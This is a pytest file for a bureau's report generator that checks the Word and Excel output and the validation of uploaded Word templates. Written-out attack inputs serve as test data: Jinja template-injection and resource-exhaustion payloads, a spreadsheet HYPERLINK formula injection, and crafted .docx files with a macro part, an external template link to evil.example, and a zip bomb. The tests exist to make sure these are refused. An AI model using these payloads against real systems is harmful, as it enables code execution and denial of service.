"""The Word and Excel files of a report, from the built-in templates and from the bureau's own."""

import io
import zipfile
from datetime import date
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from matchmaker.errors import Invalid, Refused
from matchmaker.queries.reporting.sample import sample
from matchmaker.reports import snapshot_template
from matchmaker.services import report_templates, snapshots
from models import Event, ReportTemplate, db
from models.actions import Action
from models.enums import Role
from models.project_enums import SnapshotKind, SnapshotState
from tests.factories import bureau_user
from tests.functional.reports.builders import contract, drafted, submitted

NASTY = "<焊接&打磨> “智能”"
FORMULA = '=HYPERLINK("http://x","合同")'


def docx(*lines: str) -> bytes:
    document, buffer = Document(), io.BytesIO()
    for line in lines:
        document.add_paragraph(line)
    document.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The same package with one more part, or another one in its place."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, content)
    return buffer.getvalue()


def upload(data: bytes, name: str = "半年报.docx") -> ReportTemplate:
    return report_templates.put(SnapshotKind.HALF_YEAR, name, io.BytesIO(data), actor=bureau_user(Role.OFFICER))


def text_of(data: bytes) -> str:
    document = Document(io.BytesIO(data))
    cells = (cell.text for table in document.tables for row in table.rows for cell in row.cells)
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def word_of(sign_in: Any, row: Any) -> bytes:
    answer = sign_in(row.author).get(f"/bureau/reports/{row.id}/word")
    assert row.number in answer.headers["Content-Disposition"].encode("latin-1").decode(), "headers carry no Chinese"
    return answer.data


def test_the_word_file_says_what_the_page_says(sign_in):
    contract(NASTY, "120.50")
    data = word_of(sign_in, drafted())
    text = text_of(data)
    for said in (
        "2026年上半年",
        "成交技术合同 1 份，成交额 120.50 万元",
        NASTY,
        "统计口径",
        "以合同签订日期计",
        "草稿",
    ):
        assert said in text
    assert "{" not in text, "no placeholder is left"
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        names = parts.namelist()
    assert sum(name.startswith("word/charts/") and name.endswith(".xml") for name in names) >= 5
    assert sum(name.startswith("word/embeddings/") for name in names) >= 5


@pytest.mark.parametrize("kind", SnapshotKind)
def test_every_kind_has_its_files(kind: SnapshotKind, sign_in):
    contract(NASTY, "120.50")
    officer = bureau_user(Role.OFFICER)
    day = {"WEEKLY": date(2026, 6, 29), "MONTHLY": date(2026, 6, 1), "YEAR": date(2026, 1, 1)}.get(kind.name)
    client = sign_in(officer)
    page = client.post("/bureau/reports/new", data={"kind": kind.name, "day": str(day or "2026-06-30")})
    address = page.headers["Location"]
    assert client.get(address).status_code == 200
    assert Document(io.BytesIO(client.get(f"{address}/word").data)).paragraphs
    assert load_workbook(io.BytesIO(client.get(f"{address}/excel").data)).sheetnames[0] == "指标"


def test_the_workbook_has_figures_tables_charts_and_every_record(sign_in):
    contract(FORMULA, "120.50")
    contract(NASTY, "80.00")
    row = drafted()
    book = load_workbook(io.BytesIO(sign_in(row.author).get(f"/bureau/reports/{row.id}/excel").data))
    assert book.sheetnames[:2] == ["指标", "本年各月"]
    assert len(book["图表"]._charts) >= 4
    lines = {cells[0]: cells for cells in book["指标"].iter_rows(values_only=True)}
    assert lines["成交的技术合同"][1] == 200.5
    assert "以签订日期计" in lines["成交的技术合同"][7]
    records = [cells for cells in book["成交的技术合同"].iter_rows() if cells[4].value in (120.5, 80)]
    assert {cells[1].value for cells in records} == {FORMULA, NASTY}
    assert all(cell.data_type != "f" for sheet in book for cells in sheet.iter_rows() for cell in cells)
    (guarded,) = (cells[1] for cells in records if cells[1].value == FORMULA)
    assert guarded.quotePrefix
    assert book["指标"].freeze_panes == "B5"


def test_the_bureaus_own_template_is_used_from_then_on(sign_in):
    contract("甲", "120.50")
    client = sign_in(bureau_user(Role.OFFICER))
    own = docx("本局报告：{{ 报表.名称 }}", "成交额 {{ 数.成交的技术合同.数值 }} 万元", "{{ 图.各月成交额.图 }}")
    sent = {"file": (io.BytesIO(own), "我的半年报.docx")}
    page = client.post("/bureau/reports/template?kind=HALF_YEAR", data=sent, follow_redirects=True)
    assert "模板“我的半年报.docx”已启用" in page.text
    assert client.get("/bureau/reports/template/file?kind=HALF_YEAR").data == own
    line = db.session.scalars(select(Event).where(Event.action == Action.UPLOAD_TEMPLATE)).one()
    assert line.subject_label == "我的半年报.docx" and line.data == {"kind": "HALF_YEAR"}
    text = text_of(word_of(sign_in, drafted()))
    assert "本局报告：临沂市产学研合作统计半年报（2026年上半年）" in text
    assert "成交额 120.50 万元" in text


def test_the_built_in_template_can_be_handed_in_again():
    for kind in SnapshotKind:
        data = io.BytesIO(snapshot_template.built_in(sample(kind)))
        assert report_templates.put(kind, "内置.docx", data, actor=bureau_user(Role.OFFICER)).id


def test_a_wrong_placeholder_is_named(sign_in):
    client = sign_in(bureau_user(Role.OFFICER))
    sent = {"file": (io.BytesIO(docx("{{ 数.新发布须求.数值 }}")), "模板.docx")}
    page = client.post("/bureau/reports/template?kind=HALF_YEAR", data=sent)
    assert page.status_code == 400
    assert "模板里的“新发布须求”不是报表里有的内容" in page.text
    assert not db.session.query(ReportTemplate).count()


ATTACKS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ 报表.__class__ }}",
    "{{ 报表['__class__'] }}",
    "{{ 报表.items() }}",
    "{{ 报表.名称.format(报表) }}",
    "{{ 报表.名称.format }}",
    "{{ self }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ lipsum() }}",
    "{% include 'x' %}",
    "{% import 'os' as os %}",
    "{% set a = 1 %}",
    "{% macro a() %}{{ a() }}{{ a() }}{% endmacro %}{{ a() }}",
    "{{ '长' * 1000000000 }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ 10 ** 10 ** 10 }}",
    "{{ 报表.名称|center(1000000000) }}",
    "{{ 报表.名称|attr('__class__') }}",
    "{% for a in 指标 %}{% for b in 指标 %}{% for c in 指标 %}{% for d in 指标 %}1" + "{% endfor %}" * 4,
    "{% for a in range(100000) %}{% endfor %}",
    "{{ 没有写完",
    "{% for 行 in 指标 %}{{ 行.名称 }}",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_template_can_run_nothing(attack: str):
    with pytest.raises(Invalid):
        upload(docx(attack))
    with pytest.raises(Invalid):
        upload(_with_header(attack))
    assert not db.session.query(ReportTemplate).count()


def _with_header(line: str) -> bytes:
    document, buffer = Document(), io.BytesIO()
    document.sections[0].header.paragraphs[0].text = line
    document.save(buffer)
    return buffer.getvalue()


RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"", "空.docx"),
        (b"not a zip", "假.docx"),
        (docx("{{ 报表.名称 }}")[:2000], "半截.docx"),
        (docx("{{ 报表.名称 }}"), "模板.dotm"),
        (docx("{{ 报表.名称 }}"), "模板.pdf"),
        (with_part(docx("好"), "word/vbaProject.bin", b"\x00"), "宏.docx"),
        (with_part(docx("好"), "word/_rels/settings.xml.rels", RELATIONS), "外链.docx"),
        (with_part(docx("好"), "word/media/bomb.bin", b"\x00" * (60 * 1024 * 1024)), "炸弹.docx"),
        (with_part(docx("好"), "word/document.xml", b"<a"), "坏.docx"),
    ],
    ids=["empty", "no zip", "half", "macros by name", "other type", "macros", "reaches out", "bomb", "broken"],
)
def test_what_is_no_harmless_word_file_is_refused(data: bytes, name: str):
    with pytest.raises(Invalid):
        upload(data, name)
    assert not db.session.query(ReportTemplate).count()


def test_a_template_that_fits_no_more_stops_the_approval_and_says_so():
    row = submitted()
    upload(docx("{{ 报表.名称 }}"))
    content = dict(row.content)
    del content["charts"]
    row.content = content
    db.session.commit()
    with pytest.raises(Refused, match="模板填不进"):
        snapshots.approve(row, actor=bureau_user(Role.SUPERVISOR))
    db.session.rollback()
    assert row.state is SnapshotState.SUBMITTED
